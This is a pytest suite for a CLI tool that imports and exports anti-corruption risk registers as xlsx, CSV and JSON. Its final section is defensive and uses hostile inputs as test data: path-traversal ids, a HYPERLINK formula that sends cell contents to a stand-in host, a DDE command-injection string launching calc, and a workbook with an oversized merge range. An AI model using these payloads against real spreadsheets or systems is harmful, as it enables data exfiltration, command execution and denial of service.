"""``lfk export`` / ``lfk import``: real xlsx files written and read back, CSV (UTF-8 and GBK), JSON, round trips."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from lfk.register import Register
from tests.conftest import AS_OF, BASE, DEMO, invoke, writable

KINDS = ("authorities", "risks", "measures")


@pytest.fixture
def base(base_register: Path) -> Path:
    """A writable copy of tests/fixtures/base."""
    return writable(base_register)


def _empty_copy(src_root: Path, dst: Path, uid: str = "copy") -> Path:
    """A register with the same lfk.yaml and one empty unit ``uid`` (made by ``lfk new unit``)."""
    dst.mkdir(parents=True)
    shutil.copy(src_root / "lfk.yaml", dst / "lfk.yaml")
    return writable(dst)


def _new_unit(runner, root: Path, uid: str = "copy") -> None:  # type: ignore[no-untyped-def]
    r = invoke(runner, "new", "unit", uid, "--name", "导入测试单位", "--type", "其他", "--root", str(root))
    assert r.exit_code == 0, r.output


def _assert_same_unit(src: Register, uid: str, dst: Register, duid: str) -> None:
    a, b = src.unit(uid), dst.unit(duid)
    for kind in KINDS:
        left = [i.model for i in getattr(a, kind)]
        right = [i.model for i in getattr(b, kind)]
        assert len(left) == len(right), (uid, kind)
        for x, y in zip(left, right, strict=True):
            assert x == y, (uid, kind, x.id)
    lb = sorted((i.model for i in a.benchmarks), key=lambda m: m.authority)
    rb = sorted((i.model for i in b.benchmarks), key=lambda m: m.authority)
    assert lb == rb, uid
    assert a.unit is not None and b.unit is not None
    posts_b = {p.id: p for p in b.unit.posts}
    for p in a.unit.posts:
        assert posts_b.get(p.id) == p, (uid, p.id)
    assert {x.id: x for x in b.unit.approvals} == {x.id: x for x in a.unit.approvals}


# -- export --------------------------------------------------------------------------------------------
def test_export_xlsx_layout(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "out.xlsx"
    r = invoke(runner, "export", "--root", str(base), "--out", str(out), "--as-of", AS_OF)
    assert r.exit_code == 0, r.output
    wb = load_workbook(out)
    assert wb.sheetnames == ["职权目录", "廉政风险防控登记表", "防控措施", "裁量基准", "岗位", "审定记录"]
    ws = wb["廉政风险防控登记表"]
    assert "廉政风险防控登记表" in ws["A1"].value and ws["A1"].font.bold
    headers = [c.value for c in ws[3]]
    for h in ("序号", "单位", "岗位/职权", "风险类别", "风险点", "风险描述", "风险等级", "防控措施", "责任人", "责任领导",
              "审定", "复核日期"):
        assert h in headers, h
    assert headers.index("序号") < headers.index("风险点") < headers.index("复核日期") < headers.index("风险编号")
    assert all(c.font.bold for c in ws[3])
    assert ws.freeze_panes == "A4"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$3:$3"
    gcol = headers.index("风险等级") + 1
    fills = {ws.cell(row=r, column=gcol).value: ws.cell(row=r, column=gcol).fill.fgColor.rgb for r in range(4, ws.max_row + 1)}
    assert set(fills) == {"高", "中", "低"}
    assert len(set(fills.values())) == 3  # one colour per grade
    mcol = headers.index("防控措施") + 1
    rid_col = headers.index("风险编号") + 1
    cell = next(ws.cell(row=r, column=mcol).value for r in range(4, ws.max_row + 1)
                if ws.cell(row=r, column=rid_col).value == "R-001")
    assert cell.startswith("1. ") and "\n2. " in cell  # measures numbered in one cell
    assert ws.cell(row=4, column=mcol).alignment.wrap_text
    assert ws.column_dimensions["E"].width >= 20
    auth = wb["职权目录"]
    assert [c.value for c in auth[3]][:11] == ["序号", "单位", "职权编码", "职权名称", "职权类别", "职权内容", "行使主体",
                                              "法律依据", "承办岗位", "法定时限", "公开属性"]
    bm = wb["裁量基准"]
    assert bm.max_row == 3 + 3  # one row per tier
    assert any(str(m) .startswith("D4") for m in bm.merged_cells.ranges)  # the violation merged over its tiers


def test_export_csv_and_json(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    r = invoke(runner, "export", "--root", str(base), "--format", "json")
    assert r.exit_code == 0
    doc = json.loads(r.stdout)
    assert doc["units"][0]["id"] == "county-amr" and len(doc["units"][0]["risks"]) == 6
    r = invoke(runner, "export", "--root", str(base), "--format", "csv", "--table", "all", "--out", str(tmp_path / "c"))
    assert r.exit_code == 0, r.output
    assert sorted(p.name for p in (tmp_path / "c").iterdir()) == sorted(
        f"{k}.csv" for k in ("authorities", "risks", "measures", "benchmarks", "posts", "approvals"))
    raw = (tmp_path / "c" / "risks.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM right
    assert "风险点" in raw.decode("utf-8-sig").splitlines()[0]
    r = invoke(runner, "export", "--root", str(base), "--format", "csv", "--table", "all")
    assert r.exit_code == 2


def test_export_bad_options(runner, base: Path) -> None:  # type: ignore[no-untyped-def]
    assert invoke(runner, "export", "--root", str(base), "--format", "pdf").exit_code == 2
    assert invoke(runner, "export", "--root", str(base), "--unit", "nope").exit_code == 2


# -- round trips -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["xlsx", "json"])
def test_round_trip_demo_register(runner, tmp_path: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    """export → import into an empty unit gives back every item of every demo unit."""
    if not (DEMO / "lfk.yaml").is_file():
        pytest.skip("the demo register is not there")
    src = Register(DEMO)
    assert src.unit_ids
    for uid in src.unit_ids:
        out = tmp_path / f"{uid}.{fmt}"
        r = invoke(runner, "export", "--root", str(DEMO), "--unit", uid, "--format", fmt, "--out", str(out))
        assert r.exit_code == 0, r.output
        dst = _empty_copy(DEMO, tmp_path / f"reg-{uid}")
        _new_unit(runner, dst)
        r = invoke(runner, "import", str(out), "--root", str(dst), "--unit", "copy")
        assert r.exit_code == 0, r.stdout
        _assert_same_unit(src, uid, Register(dst), "copy")


def test_round_trip_base_csv_and_lint(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """CSV tables of the base register back into an empty unit: same items, and a second import changes nothing."""
    folder = tmp_path / "csv"
    r = invoke(runner, "export", "--root", str(BASE), "--format", "csv", "--table", "all", "--out", str(folder))
    assert r.exit_code == 0
    dst = _empty_copy(BASE, tmp_path / "reg")
    _new_unit(runner, dst)
    files = sorted(str(p) for p in folder.iterdir())
    r = invoke(runner, "import", *files, "--root", str(dst), "--unit", "copy")
    assert r.exit_code == 0, r.stdout
    _assert_same_unit(Register(BASE), "county-amr", Register(dst), "copy")
    before = {p: p.read_bytes() for p in dst.rglob("*.yaml")}
    r = invoke(runner, "import", *files, "--root", str(dst), "--unit", "copy")
    assert r.exit_code == 0
    assert {p: p.read_bytes() for p in dst.rglob("*.yaml")} == before  # idempotent


# -- import of the officers' own tables ----------------------------------------------------------------------
def _officer_workbook(path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = "风险点登记表"
    ws.merge_cells("A1:J1")
    ws["A1"] = "示例县市场监督管理局廉政风险点登记表"
    ws.append(["编号", "岗位（职权）", "风险类别", "风险名称", "风险表现", "等级", "预防和控制措施", "责任人", "复核时间", "备注"])
    ws.append(["R-101", "食品经营许可", "权力行使", "审批中吃拿卡要", "故意刁难申请人", "高风险",
               "1. 审批标准公开\n2. 全程电子监察", "分管行政审批副局长", dt.date(2026, 3, 15), "重点"])
    ws.append(["R-102", "执法办案人员", "思想道德", "接受吃请", "接受宴请", "低", "1、签订廉洁承诺书", "P-deputy-law",
               "2026/3/15", None])
    ws.append(["R-103", "食品经营许可", "权力行使", "违规审批", "降低标准", "极高", "1. 双人审核", "局长", "2026-03-15", None])
    ws.append(["R-104", "食品经营许可", "其他类", "制度缺失", "无", "中", "1. 建立制度", "局长", "2026-03-15", None])
    ws.append(["R-105", "食品经营许可", "权力行使", "时限拖延", "拖延办理", "中", "1. 限时办结", "局长", "去年三月", None])
    ws.append([None] * 10)
    wb.save(path)


def test_import_officer_table_keeps_every_row_and_cell(runner, base: Path,
                                                       tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Nothing refused, nothing lost: unknown words and unreadable values are warnings and land in extra."""
    xlsx = tmp_path / "登记表.xlsx"
    _officer_workbook(xlsx)
    r = invoke(runner, "import", str(xlsx), "--root", str(base), "--unit", "county-amr", "--format", "json",
               "--dry-run")
    assert r.exit_code == 0, r.stdout
    doc = json.loads(r.stdout)
    got = {(f["code"], f["line"]) for f in doc["findings"]}
    assert ("IMP101", 2) in got  # 备注: no field, kept in extra, reported at the header row
    assert ("IMP103", 5) in got  # grade 极高
    assert any(f["code"] == "IMP103" and "grading.aliases" in json.dumps(f, ensure_ascii=False) for f in doc["findings"])
    assert ("IMP103", 6) in got  # category 其他类
    assert any(f["code"] == "IMP103" and "taxonomy" in json.dumps(f, ensure_ascii=False) for f in doc["findings"])
    assert ("IMP102", 7) in got  # an unreadable date
    assert doc["summary"]["errors"] == 0 and doc["summary"]["written"] is False
    assert {"header": "备注", "field": "extra.备注"} in [{k: c[k] for k in ("header", "field")}
                                                       for c in doc["summary"]["columns"]]
    r = invoke(runner, "import", str(xlsx), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 0, r.stdout
    unit = Register(base).unit("county-amr")
    risks = {x.model.id: x.model for x in unit.risks}
    assert risks["R-101"].grade == "高" and risks["R-101"].authority == "XK-001" and risks["R-101"].owner == "P-deputy-admin"
    assert risks["R-101"].extra == {"备注": "重点"}
    assert risks["R-102"].post == "P-case" and risks["R-102"].reviewed == dt.date(2026, 3, 15)
    assert risks["R-103"].grade is None and risks["R-103"].extra["风险等级"] == "极高"
    assert risks["R-104"].category == "其他类"
    assert risks["R-105"].reviewed is None and risks["R-105"].extra["复核日期"] == "去年三月"
    new_measures = [m.model for m in unit.measures if "R-101" in m.model.risks]
    assert [m.description for m in new_measures] == ["审批标准公开", "全程电子监察"]
    assert risks["R-001"].title == "调查取证中选择性取证、隐匿证据"  # the unit's own risks are kept
    again = invoke(runner, "import", str(xlsx), "--root", str(base), "--unit", "county-amr", "--format", "json")
    assert again.exit_code == 0
    assert json.loads(again.stdout)["summary"]["files"] == []  # a second import changes nothing


def test_import_gbk_csv(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    csv_path = tmp_path / "risks-gbk.csv"
    text = ("序号,风险编号,职权编码,风险类别,风险类型,风险点,风险描述,风险等级,责任人,审定,复核日期,权力重要程度,"
            "自由裁量权大小,发生概率,危害程度\r\n"
            "1,R-201,XK-001,权力行使,运行程序不规范,许可审查不严,审查流于形式,中,分管行政审批副局长,AP-2026-03,2026-03-15,"
            "3,3,3,3\r\n")
    csv_path.write_bytes(text.encode("gbk"))
    r = invoke(runner, "import", str(csv_path), "--root", str(base), "--unit", "county-amr", "--dry-run")
    assert r.exit_code == 0, r.stdout
    assert "+  - id: R-201" in r.stdout and "title: 许可审查不严" in r.stdout
    assert "R-201" not in (base / "units/county-amr/risks.yaml").read_text(encoding="utf-8")  # dry run
    r = invoke(runner, "import", str(csv_path), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 0
    risk = {x.model.id: x.model for x in Register(base).unit("county-amr").risks}["R-201"]
    assert risk.factors == {"importance": 3, "discretion": 3, "probability": 3, "harm": 3}
    assert risk.owner == "P-deputy-admin" and risk.approval == "AP-2026-03"
    text_after = (base / "units/county-amr/risks.yaml").read_text(encoding="utf-8")
    assert "factors: {importance: 3, discretion: 3, probability: 3, harm: 3}" in text_after
    r = invoke(runner, "lint", "--root", str(base), "--as-of", AS_OF, "--format", "json")
    codes = {f["code"] for f in json.loads(r.stdout)["findings"]}
    assert not {c for c in codes if c.startswith("LFK1")}, codes  # the imported risk is well-formed


def test_import_conflicts_and_replace(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "amr.xlsx"
    assert invoke(runner, "export", "--root", str(base), "--out", str(out)).exit_code == 0
    # the same content again: nothing to do
    r = invoke(runner, "import", str(out), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 0 and "=6" in r.stdout
    wb = load_workbook(out)
    ws = wb["廉政风险防控登记表"]
    headers = [c.value for c in ws[3]]
    title_col = headers.index("风险点") + 1
    ws.cell(row=4, column=title_col, value="改过的风险点")
    wb.save(out)
    risks_file = base / "units/county-amr/risks.yaml"
    before = risks_file.read_bytes()
    r = invoke(runner, "import", str(out), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 1 and "IMP104" in r.stdout
    assert risks_file.read_bytes() == before
    r = invoke(runner, "import", str(out), "--root", str(base), "--unit", "county-amr", "--replace")
    assert r.exit_code == 0, r.stdout
    after = risks_file.read_text(encoding="utf-8")
    assert "title: 改过的风险点" in after and after.count("- id: R-") == 6


def test_import_into_missing_unit_and_bad_file(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "x.xlsx"
    bad.write_bytes(b"not a zip")
    assert invoke(runner, "import", str(bad), "--root", str(base), "--unit", "nope").exit_code == 2
    r = invoke(runner, "import", str(bad), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 2
    assert invoke(runner, "import", str(tmp_path / "none.csv"), "--root", str(base), "--unit", "county-amr").exit_code == 2


def test_import_merged_cells_and_generated_ids(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Officers merge the 岗位/职权 cell over its risks; rows without ids get R-001-style ids (reported)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "风险点"
    ws.append(["序号", "岗位/职权", "风险类别", "风险点", "风险等级", "防控措施", "责任人"])
    ws.append([1, "食品经营许可", "权力行使", "甲风险", "中", "1. 措施甲", "局长"])
    ws.append([2, None, "权力行使", "乙风险", "低", "1. 措施乙\n2. 措施丙", "局长"])
    ws.merge_cells("B2:B3")
    path = tmp_path / "merged.xlsx"
    wb.save(path)
    r = invoke(runner, "import", str(path), "--root", str(base), "--unit", "county-amr", "--format", "json")
    assert r.exit_code == 0, r.stdout
    doc = json.loads(r.stdout)
    assert doc["summary"]["counts"]["risks"]["added"] == 2 and doc["summary"]["counts"]["measures"]["added"] == 3
    assert any(f["code"] == "IMP106" and "R-007" in f["message"] for f in doc["findings"])  # R-001..R-006 are taken
    unit = Register(base).unit("county-amr")
    new = [x.model for x in unit.risks if x.model.title in ("甲风险", "乙风险")]
    assert [(x.authority, x.owner) for x in new] == [("XK-001", "P-director"), ("XK-001", "P-director")]
    assert len({x.model.id for x in unit.risks}) == len(unit.risks) == 8


def test_whole_register_workbook_and_from_unit(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    if not (DEMO / "lfk.yaml").is_file():
        pytest.skip("the demo register is not there")
    out = tmp_path / "all.xlsx"
    assert invoke(runner, "export", "--root", str(DEMO), "--out", str(out)).exit_code == 0
    demo = writable(Path(shutil.copytree(DEMO, tmp_path / "demo")))
    before = {p: p.read_bytes() for p in demo.rglob("*.yaml")}
    r = invoke(runner, "import", str(out), "--root", str(demo), "--unit", "county-amr")
    assert r.exit_code == 0, r.stdout  # its own rows only, all unchanged
    assert {p: p.read_bytes() for p in demo.rglob("*.yaml")} == before
    dst = _empty_copy(DEMO, tmp_path / "reg")
    _new_unit(runner, dst)
    assert invoke(runner, "import", str(out), "--root", str(dst), "--unit", "copy").exit_code == 2  # which unit?
    r = invoke(runner, "import", str(out), "--root", str(dst), "--unit", "copy", "--from-unit", "county-org")
    assert r.exit_code == 0, r.stdout
    _assert_same_unit(Register(DEMO), "county-org", Register(dst), "copy")


# -- hostile tables (issue 19: paths, formulas, unbounded work) -------------------------------------------
def test_import_ids_never_name_a_path(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A 职权编码 like ../../X never names a file: the row is refused, nothing lands outside the register."""
    csv_path = tmp_path / "bm.csv"
    csv_path.write_text("职权编码,违法行为,裁量阶次,适用情形,罚款幅度\n../../../../X,违法,从轻处罚,情节轻微,1000-2000元\n"
                        "CF-9,违法,从轻处罚,情节轻微,1000-2000元\n", encoding="utf-8")
    for extra in ([], ["--replace"], ["--force"]):
        r = invoke(runner, "import", str(csv_path), "--root", str(base), "--unit", "county-amr", *extra)
        assert not (base.parent / "X.yaml").exists() and not list(tmp_path.rglob("X.yaml"))
        assert "IMP102" in r.stdout
    assert not any(".." in str(p.relative_to(base)) for p in base.rglob("*.yaml"))


def test_import_risk_id_breaking_the_rules_is_renumbered(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    csv_path = tmp_path / "r.csv"
    csv_path.write_text("风险编号,风险点,风险类别,风险等级\n../evil,风险一,权力行使,高\n", encoding="utf-8")
    r = invoke(runner, "import", str(csv_path), "--root", str(base), "--unit", "county-amr")
    assert r.exit_code == 0, r.stdout
    risks = [x.model for x in Register(base).unit("county-amr").risks if x.model.title == "风险一"]
    assert len(risks) == 1 and risks[0].id != "../evil" and risks[0].extra["原编号"] == "../evil"


def test_export_writes_formula_text_as_text(runner, base: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """An imported cell starting with = stays text through export: no live formula in the workbook."""
    from openpyxl import load_workbook

    csv_path = tmp_path / "r.csv"
    csv_path.write_text('风险编号,风险点,风险类别,风险等级\nR-900,"=HYPERLINK(""http://x"",""y"")",权力行使,高\n',
                        encoding="utf-8")
    assert invoke(runner, "import", str(csv_path), "--root", str(base), "--unit", "county-amr").exit_code == 0
    out = tmp_path / "out.xlsx"
    assert invoke(runner, "export", "--root", str(base), "--unit", "county-amr", "--out", str(out)).exit_code == 0
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
             and c.value.startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)


HOSTILE_TEXTS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "＝1+1", '第一行\n第二行, 含"引号"与,逗号', "\t=1"]


def test_export_csv_cells_are_never_formulas_and_import_back_unchanged(runner, base: Path,  # type: ignore[no-untyped-def]
                                                                       tmp_path: Path) -> None:
    """Text starting = + - @ is written '=… to CSV (no live formula), newlines and quotes are quoted, and
    importing the CSV gives the same text back."""
    import csv
    import io

    path = base / "units" / "county-amr" / "risks.yaml"
    import yaml

    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for r, text in zip(data["risks"], HOSTILE_TEXTS, strict=False):
        r["description"] = text
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    folder = tmp_path / "csv"
    r = invoke(runner, "export", "--root", str(base), "--format", "csv", "--table", "all", "--out", str(folder))
    assert r.exit_code == 0, r.output
    for f in folder.iterdir():
        rows = list(csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"), newline="")))
        cells = [c for row in rows[1:] for c in row]
        assert not any(c[:1] in ("=", "+", "@", "\t", "＝") for c in cells), f.name
        assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells), f.name
    dst = _empty_copy(base, tmp_path / "reg")
    _new_unit(runner, dst)
    r = invoke(runner, "import", *sorted(str(p) for p in folder.iterdir()), "--root", str(dst), "--unit", "copy")
    assert r.exit_code == 0, r.stdout
    _assert_same_unit(Register(base), "county-amr", Register(dst), "copy")
    got = {x.model.description for x in Register(dst).unit("copy").risks}
    assert set(HOSTILE_TEXTS[:len(data["risks"])]) <= got


@pytest.mark.parametrize("kind", ["merge", "far-cell"])
def test_small_xlsx_bounds_the_work(tmp_path: Path, kind: str) -> None:
    """A 2 KB workbook with one merge A3:XFD1048576 or one cell at ZZ500000 reads only its real content."""
    import zipfile

    from openpyxl import Workbook

    from lfk.loader.sheets import read_xlsx

    path = tmp_path / "w.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["风险点", "风险等级", "防控措施"])
    ws["A3"] = "x"
    if kind == "far-cell":
        ws["ZZ500000"] = "y"
    wb.save(path)
    if kind == "merge":
        with zipfile.ZipFile(path) as z:
            parts = {i.filename: z.read(i.filename) for i in z.infolist()}
        parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
            b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>')
        with zipfile.ZipFile(path, "w") as z:
            for name, data in parts.items():
                z.writestr(name, data)
    sheets = read_xlsx(path)
    cells = sum(len(c) for s in sheets for _, c in s.rows)
    assert cells <= 3 * 702  # bounded by the content (rows with values × their width), not by the ranges
    assert sheets[0].rows[0][1][:3] == ["风险点", "风险等级", "防控措施"]


def test_export_shows_the_residual_grade(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """剩余风险等级 beside 剩余风险因素: the grade `lfk grade` computes from the residual factors (it was left
    for the reader to work out); derived, so an import of the table ignores it."""
    import csv

    from lfk.grading.engine import grade_risk

    out = tmp_path / "risks.csv"
    r = invoke(runner, "export", "--root", str(DEMO), "--unit", "county-amr", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    reg = Register(DEMO)
    ud = reg.unit("county-amr")
    auths = {a.model.id: a.model for a in ud.authorities}
    want = {x.model.id: grade_risk(reg.config, x.model, auths.get(x.model.authority or "")).residual
            for x in ud.risks if x.model.residual}
    got = {row["风险编号"]: row["剩余风险等级"] for row in rows if row.get("剩余风险因素")}
    assert want and got == want
    assert all(not row["剩余风险等级"] for row in rows if not row.get("剩余风险因素"))
